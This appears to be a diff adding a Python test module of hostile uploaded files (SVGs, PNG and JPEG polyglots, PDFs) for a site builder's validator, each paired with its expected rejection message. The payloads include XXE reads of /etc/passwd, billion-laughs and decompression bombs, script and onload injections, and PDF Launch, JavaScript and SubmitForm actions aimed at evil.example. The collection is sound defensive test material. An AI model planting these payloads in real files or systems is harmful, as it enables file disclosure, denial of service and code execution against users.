@@ -1,0 +1,146 @@
+# ruff: noqa: E501  (one row a case)
+"""Attacks by files: drawings, pictures that are none or too much, PDFs, and other files that are given out."""
+
+import struct
+import zlib
+from io import BytesIO
+
+from PIL import Image
+
+from tests.hostile.attacks import Attack
+
+_NS = b'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="700" height="90"'
+_RUNS = "which can run as a program"
+_ASKS = "it asks for something outside itself"
+_DECLARES = "it declares entities or attributes"
+_BOMB = b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+
+
+def svg(inner: bytes, before: bytes = b"") -> bytes:
+    """Write a drawing."""
+    return before + b"<svg " + _NS + b">" + inner + b"</svg>"
+
+
+def _drawn(name: str, content: bytes, says: str) -> Attack:
+    return Attack(name, "![A drawing](a.svg)", f"4: picture: the picture 'a.svg': {says}", files={"a.svg": content})
+
+
+def _uses(levels: int) -> bytes:
+    """Give a drawing in which each level shows the one below ten times."""
+    groups = b"".join(
+        b'<g id="l%d">%s</g>' % (level, b'<use href="#l%d"/>' % (level - 1) * 10) for level in range(1, levels)
+    )
+    return svg(b'<g id="l0"><path d="M0 0h9"/></g>' + groups)
+
+
+DRAWINGS: tuple[Attack, ...] = (
+    _drawn("svg-script", svg(b"<script>boom()</script>"), f"it holds script, {_RUNS}"),
+    _drawn("svg-script-prefixed", b'<y:svg xmlns:y="http://www.w3.org/2000/svg"><y:script>boom()</y:script></y:svg>', "it has no <svg> element"),
+    _drawn("svg-handler", svg(b'<path ONLOAD="boom()" d="M0 0h9"/>'), "it holds ONLOAD"),
+    _drawn("svg-foreign", svg(b"<foreignObject><p>A</p></foreignObject>"), f"it holds foreignObject, {_RUNS}"),
+    _drawn("svg-html-inside", svg(b'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example"/>'), f"it holds meta, {_RUNS}"),
+    _drawn("svg-utf-16", svg(b"<script>boom()</script>", b'<?xml version="1.0" encoding="utf-16"?>').decode().encode("utf-16"), "it has no <svg> element"),
+    _drawn("svg-image", svg(b'<image href="https://evil.example/x.png"/>'), _ASKS),
+    _drawn("svg-image-file", svg(b'<image x:href="file:///etc/passwd"/>'), _ASKS),
+    _drawn("svg-use", svg(b'<use x:href="https://evil.example/x.svg#a"/>'), _ASKS),
+    _drawn("svg-link-javascript", svg(b'<a x:href="java&#115;cript:boom()"><path d="M0 0h9"/></a>'), _ASKS),
+    _drawn("svg-data-svg", svg(b'<image href="data:image/svg+xml,%3Csvg onload=boom()%3E"/>'), _ASKS),
+    _drawn("svg-animated-link", svg(b'<a><animate attributeName="href" to="javascript:boom()"/></a>'), "it holds animate, which changes where a link leads"),
+    _drawn("svg-style-url", svg(b"<style>path { fill: url(https://evil.example/x.svg#a) }</style>"), _ASKS),
+    _drawn("svg-style-characters", svg(b'<path style="fill: &#117;rl(https://evil.example/x)" d="M0 0h9"/>'), _ASKS),
+    _drawn("svg-style-escapes", svg(rb'<path fill="\75 rl(https://evil.example/x)" d="M0 0h9"/>'), _ASKS),
+    _drawn("svg-style-comment", svg(b"<style>@im/**/port x; @import 'https://evil.example/x.css';</style>"), _ASKS),
+    _drawn("svg-font-face", svg(b"<style>@font-face { font-family: a; src: url(file:///etc/passwd) }</style>"), _ASKS),
+    _drawn("svg-image-set", svg(b'<style>path { cursor: -webkit-image-set("https://evil.example/x" 1x) }</style>'), _ASKS),
+    _drawn("svg-base", svg(b'<g xml:base="https://evil.example/"><use href="#a"/></g>'), _ASKS),
+    _drawn("svg-style-sheet", svg(b"", b'<?xml-stylesheet href="https://evil.example/x.css"?>'), "it holds an instruction <?"),
+    _drawn("svg-billion-laughs", svg(b"<text>&b;</text>", _BOMB), _DECLARES),
+    _drawn("svg-outer-entity", svg(b"<text>&a;</text>", b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), _DECLARES),
+    _drawn("svg-declared-handler", svg(b"", b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "boom()">]>'), _DECLARES),
+    _drawn("svg-laughs-by-use", _uses(9), "it draws more than 200,000 shapes"),
+    _drawn("svg-within-itself", svg(b'<g id="a"><use href="#a"/></g>'), "it shows itself within itself"),
+    _drawn("svg-too-deep", svg(b"<g>" * 5000 + b"</g>" * 5000), "it is no sound XML"),
+    _drawn("svg-unsound", svg(b"<g><p></g>"), "it is no sound XML"),
+    _drawn("svg-endless-size", svg(b"").replace(b'"700"', b'"90000000"'), "it is 90000000 by 90 pixels"),
+)  # fmt: skip
+
+
+def _png_head(width: int, height: int, body: bytes = b"") -> bytes:
+    """Write a PNG that says it is so large, in a few bytes."""
+
+    def chunk(name: bytes, content: bytes) -> bytes:
+        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
+
+
+def _picture(kind: str, **wishes: object) -> bytes:
+    written = BytesIO()
+    Image.new("RGB", (700, 400), (90, 120, 60)).save(written, kind, **wishes)
+    return written.getvalue()
+
+
+def _shown(name: str, content: bytes, says: str, file: str = "a.png") -> Attack:
+    said = f"4: picture: the picture '{file}': {says}" if says else ""
+    return Attack(name, f"![A picture]({file})", said, files={file: content})
+
+
+PICTURES: tuple[Attack, ...] = (
+    _shown("picture-bomb", _png_head(50_000, 50_000, zlib.compress(b"\0" * 999)), "it has more than 89 million pixels"),
+    _shown("picture-is-html", b"<html><script>boom()</script></html>", "it breaks off"),
+    _shown("picture-is-svg", svg(b"<script>boom()</script>"), "it breaks off"),
+    _shown(
+        "picture-is-a-program", b"MZ\x90\0" + bytes(900) + b"IEND\xae\x42\x60\x82", "it cannot be read as a picture"
+    ),
+    _shown("picture-breaks-off", _picture("PNG")[:300], "it breaks off"),
+    _shown("jpeg-is-html", b"\xff\xd8\xff\xfe\0\x20<script>boom()</script>", "it breaks off", "a.jpg"),
+    _shown("picture-format-unknown", b"%!PS-Adobe\n(/etc/passwd) run", "'.eps' is not a picture format", "a.eps"),
+)
+
+DAMAGED = _shown("picture-unpacks-to-less", _png_head(700, 400, zlib.compress(b"\0" * 99)), "")
+"""Found when it is printed, for no check unpacks every picture."""
+
+POLYGLOTS: tuple[Attack, ...] = (
+    _shown("jpeg-with-html-in-comment", _picture("JPEG", comment=b"<script>boom()</script>"), "", "a.jpg"),
+    _shown("gif-and-script", _picture("GIF", comment=b"*/=1;boom()//"), "", "a.gif"),
+    _shown("png-with-html-behind", _picture("PNG") + b"<script>boom()</script>" + _picture("PNG")[-12:], ""),
+    Attack("jpeg-given-out", "[A picture](b.jpg)", files={"b.jpg": _picture("JPEG", comment=b"<script>boom()</script>")}),
+)  # fmt: skip
+
+_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R {}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+
+
+def pdf(entry: bytes, more: bytes = b"") -> bytes:
+    """Write a PDF with an entry in its catalogue."""
+    return _PDF.replace(b"{}", entry).replace(b"trailer", more + b"trailer")
+
+
+_PACKED = zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")
+_STREAM = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
+
+
+def _given(name: str, content: bytes, says: str, file: str = "a.pdf") -> Attack:
+    return Attack(name, f"[A file]({file})", f"4: link: '{file}': {says}", files={file: content})
+
+
+GIVEN_OUT: tuple[Attack, ...] = (
+    _given("pdf-javascript", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "it holds JavaScript"),
+    _given("pdf-javascript-in-signs", pdf(b"/OpenAction<</S/#4aavaScript/#4aS(app.alert(1))>>"), "it holds JavaScript"),
+    _given("pdf-javascript-packed", pdf(b"/OpenAction 5 0 R", _STREAM % (len(_PACKED), _PACKED)), "it holds JavaScript"),
+    _given("pdf-launch", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "it starts other programs"),
+    _given("pdf-xfa", pdf(b"/AcroForm<</XFA 7 0 R/Fields[]>>"), "it holds a form that is a program"),
+    _given("pdf-rich-media", pdf(b"", b"3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n"), "it plays films or programs"),
+    _given("pdf-sends-form", pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "it sends what readers type"),
+    _given("pdf-encloses", pdf(b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>]>>>>"), "it encloses a file (a.exe)"),
+    _given("pdf-and-html", b"<html><script>boom()</script>\n" + pdf(b""), "it begins as a web page"),
+    _given("pdf-in-name-only", b"<html><script>boom()</script>", "it is called .pdf, but is none"),
+    _given("html-given-out", b"<script>boom()</script>", "files that end in '.html' are not given out", "a.html"),
+    _given("script-given-out", b"boom()", "files that end in '.js' are not given out", "a.js"),
+    _given("program-given-out", b"MZ", "files that end in '.exe' are not given out", "a.pdf.exe"),
+    _given("web-server-settings", b"AddHandler x", "files that end in '' are not given out", "htaccess"),
+    _given("svg-given-out", svg(b"<script>boom()</script>"), "it holds script", "a.svg"),
+    _given("png-given-out-is-html", b"<script>boom()</script>", "it is called .png, but is none", "a.png"),
+    _given("docx-is-none", b"MZ\x90\0", "it is called .docx, but is none", "a.docx"),
+    Attack("attachment-html", fields="attachments:\n  - file: a.htm\n    title: A file\n", says="4: attachments.0.file: 'a.htm': files that end in '.htm'", files={"a.htm": b"<script>boom()</script>"}),
+)  # fmt: skip
